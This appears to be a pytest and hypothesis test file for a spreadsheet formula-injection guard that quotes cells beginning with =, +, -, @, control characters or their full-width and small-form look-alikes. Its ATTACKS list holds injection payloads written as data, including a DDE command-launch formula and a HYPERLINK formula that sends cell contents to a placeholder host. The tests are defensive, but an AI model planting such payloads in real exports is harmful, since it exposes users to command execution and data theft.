import pytest
from hypothesis import given
from hypothesis import strategies as st

from asn_neutral.intake.guard import guard, unguard

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '"=1',
    " =1",
    "\ufe66=1",  # the small forms of the equals sign, the plus, the hyphen and the at sign
    "\ufe621",
    " \ufe631",
    '"\ufe6bSUM(1)',
    "\u00a0=1",
    "\ufeff=1",
    "' \"-1",
    "\tharmless behind a tab",
]
HARMLESS = ["", "Budi", "a=1", "1-2", ";=1", ",=1", "%0A=1", "|calc", "'198001012005011901", "''", "'", '"', " "]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_looks_like_a_formula_gets_one_quote(text: str) -> None:
    assert guard(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_does_not_look_like_one_stays(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


def test_exactly_one_quote_comes_off() -> None:
    assert unguard("'=1") == "=1"
    assert unguard("''=1") == "'=1"
    assert unguard("=1") == "=1"


@given(st.text() | st.text(alphabet="'\"=+-@\t\r\n ＝a1"))
def test_unguard_takes_back_what_guard_did(text: str) -> None:
    assert unguard(guard(text)) == text


OPENERS = "=+-@\t\r\n＝＋－＠\ufe66\ufe62\ufe63\ufe6b"


@given(st.text(alphabet=f"'\"{OPENERS} a1"))
def test_a_guarded_text_begins_with_the_quote_or_with_nothing_dangerous(text: str) -> None:
    assert guard(text)[:1] not in set(OPENERS)


@pytest.mark.parametrize("sign", OPENERS)
def test_every_sign_a_formula_may_begin_with_is_guarded(sign: str) -> None:
    assert guard(f"{sign}1") == f"'{sign}1"
